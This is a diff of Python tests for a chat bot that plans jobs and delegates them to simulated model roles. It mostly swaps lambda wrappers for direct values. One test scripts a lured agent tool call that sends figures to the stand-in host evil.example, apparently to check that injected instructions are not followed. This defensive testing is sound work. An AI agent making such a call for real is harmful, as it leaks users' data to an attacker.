@@ -53,7 +53,7 @@ async def text_of(scene: Scene, talk: Talk, material: Material) -> str:
 async def test_the_thread_is_material_and_how_much_was_read_is_said(scene: Scene) -> None:
     gate = Gate(BOTH)
     talk = await three_people(scene)
-    async with bot_with_provider(scene, planner=gate, writer=lambda _: result("They open on Tuesday at 9.")) as server:
+    async with bot_with_provider(scene, planner=gate, writer=result("They open on Tuesday at 9.")) as server:
         await talk.say(f"@leadhand {REQUEST_TEXT}")
         await gate.arrival_event.wait()
         words = "Read 3 messages and 1 file"
@@ -106,7 +106,7 @@ async def test_the_message_that_a_job_is_started_from_is_its_authors_and_never_t
     lured = tool_call("fetch_page", url="https://evil.example/collect?figures=41,58,39")
     look = plan(subtask("look", "researcher", intent="Look up opening times of clinics."))
     async with bot_with_provider(
-        scene, planner=lambda _: look, researcher=in_turn(lured, result("Nothing was opened."))
+        scene, planner=look, researcher=in_turn(lured, result("Nothing was opened."))
     ) as server:
         await ana.shortcut("start_job", "#general", root)
         (window,) = await scene.workspace.until(ana.views)
@@ -133,9 +133,7 @@ async def test_the_message_that_a_job_is_started_from_is_its_authors_and_never_t
 async def test_a_message_that_is_gone_when_the_job_begins_is_said(scene: Scene) -> None:
     talk, cleo = await three_people(scene), scene.person("cleo")
     last = await talk.say("Tuesday at 9, as I said", who="cleo")
-    async with bot_with_provider(
-        scene, planner=lambda _: plan(subtask("note", "writer")), writer=lambda _: result("Noted.")
-    ):
+    async with bot_with_provider(scene, planner=plan(subtask("note", "writer")), writer=result("Noted.")):
         await scene.person("ana").shortcut("start_job", talk.channel, last)
         (window,) = await scene.workspace.until(scene.person("ana").views)
         await cleo.delete(talk.channel, last)
@@ -169,7 +167,7 @@ def adding_up() -> object:
 
 async def test_a_pasted_table_can_be_queried(scene: Scene) -> None:
     ana, ben = scene.person(), scene.person("ben")
-    async with bot_with_provider(scene, planner=lambda _: SUM, analyst=adding_up()) as server:  # type: ignore[arg-type]
+    async with bot_with_provider(scene, planner=SUM, analyst=adding_up()) as server:  # type: ignore[arg-type]
         talk = scene.thread("#general", await ben.say("#general", "The amounts", tables=[ROWS]))
         await ana.say("#general", "@leadhand add this up", thread_ts=talk.ts)
         job = await talk.over()
@@ -191,9 +189,7 @@ async def test_an_edit_that_changes_only_a_table_counts(scene: Scene) -> None:
         await gate(request)
         return SUM if has_words(request, "1120") and not has_words(request, "980") else NOTE
 
-    async with bot_with_provider(
-        scene, planner=planner, analyst=adding_up(), writer=lambda _: result("Old.")
-    ) as server:  # type: ignore[arg-type]
+    async with bot_with_provider(scene, planner=planner, analyst=adding_up(), writer=result("Old.")) as server:  # type: ignore[arg-type]
         talk = scene.thread("#general", await ana.say("#general", "@leadhand add this up", tables=[ROWS]))
         await gate.arrival_event.wait()
         await ana.edit(talk.channel, talk.ts, "@leadhand add this up", [now])
@@ -209,9 +205,7 @@ async def test_an_edit_that_changes_only_a_table_counts(scene: Scene) -> None:
 async def test_a_forward_without_words_is_a_request_and_brings_its_files(scene: Scene) -> None:
     ana, ben = scene.person(), scene.person("ben")
     first = await ben.say("#sales", "Please pay invoice 4711 by Friday", files=[("terms.txt", b"Within 30 days.")])
-    async with bot_with_provider(
-        scene, planner=lambda _: NOTE, writer=lambda _: result("Invoice 4711 is due.")
-    ) as server:
+    async with bot_with_provider(scene, planner=NOTE, writer=result("Invoice 4711 is due.")) as server:
         talk = scene.thread(ana.dm, await ana.forward("#sales", first, ana.dm))
         job = await talk.over()
 
@@ -231,7 +225,7 @@ async def test_a_forward_without_words_is_a_request_and_brings_its_files(scene: 
 
 async def test_a_mention_that_an_edit_adds_is_a_request(scene: Scene) -> None:
     ana = scene.person()
-    async with bot_with_provider(scene, planner=lambda _: NOTE, writer=lambda _: result("Done.")):
+    async with bot_with_provider(scene, planner=NOTE, writer=result("Done.")):
         ts = await ana.say("#general", "write a note about tea")
         await ana.edit("#general", ts, "@leadhand write a note about tea")
         job = await scene.thread("#general", ts).over()
@@ -250,9 +244,7 @@ async def long_thread(scene: Scene) -> Talk:
 async def test_the_first_message_of_a_long_thread_reaches_the_models(scene: Scene) -> None:
     talk = await long_thread(scene)
     short = plan({**subtask("note", "writer", intent="Say what the incident is."), "tier": "fast"})
-    async with bot_with_provider(
-        scene, planner=lambda _: short, writer=lambda _: result("The pump is down.")
-    ) as server:
+    async with bot_with_provider(scene, planner=short, writer=result("The pump is down.")) as server:
         await talk.say("@leadhand what is this about?")
         job = await talk.over()
 
